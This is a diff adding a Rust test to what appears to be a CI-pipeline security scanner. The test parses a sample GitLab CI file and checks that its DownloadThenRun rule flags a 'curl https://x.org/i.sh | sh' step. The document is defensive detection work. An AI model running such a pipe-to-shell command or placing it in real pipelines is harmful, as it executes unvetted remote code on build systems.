@@ -509,3 +509,56 @@ fn hostile_files_are_answered_with_problems() {
         analyse(&[&definition]);
     }
 }
+
+#[test]
+fn pipelines_of_gitlab_are_read() {
+    let files = "//- .gitlab-ci.yml
+variables: { A: b }
+.base:
+  image: alpine:3
+  before_script: [echo hi]
+test:
+  extends: .base
+  script:
+    - make build
+    - |
+      make test
+      curl https://x.org/i.sh | sh
+  rules:
+    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"
+release:
+  extends: .base
+  script: [glab release create v1]
+  rules:
+    - if: $CI_COMMIT_TAG
+";
+    let mut text = String::new();
+    for (path, bytes) in slam_testdata::files(files) {
+        let workflow = read(&path.as_str().into(), &bytes).unwrap().workflow;
+        let events: Vec<_> = workflow.triggers.iter().map(|trigger| trigger.event.as_str()).collect();
+        text.push_str(&format!("{events:?} {:?} {}\n", workflow.before_merge, workflow.releases));
+        for job in &workflow.jobs {
+            let images: Vec<_> = job.images.iter().map(|image| image.text.as_str()).collect();
+            let does: Vec<_> = job
+                .steps
+                .iter()
+                .flat_map(|step| &step.does)
+                .map(|does| (does.quote.place.line, does.tool.as_str()))
+                .collect();
+            text.push_str(&format!("{} {images:?} {} steps {does:?}\n", job.id, job.steps.len()));
+        }
+    }
+    expect![[r#"
+        ["merge_request_event", "tag"] Some(High) true
+        test ["alpine:3"] 2 steps [(10, "make test")]
+        release ["alpine:3"] 2 steps [(16, "glab release")]
+    "#]]
+    .assert_eq(&text);
+    check(
+        &[CiRule::DownloadThenRun],
+        files,
+        expect![[r#"
+            .gitlab-ci.yml:11 DownloadThenRun Constant High curl https://x.org/i.sh | sh
+        "#]],
+    );
+}
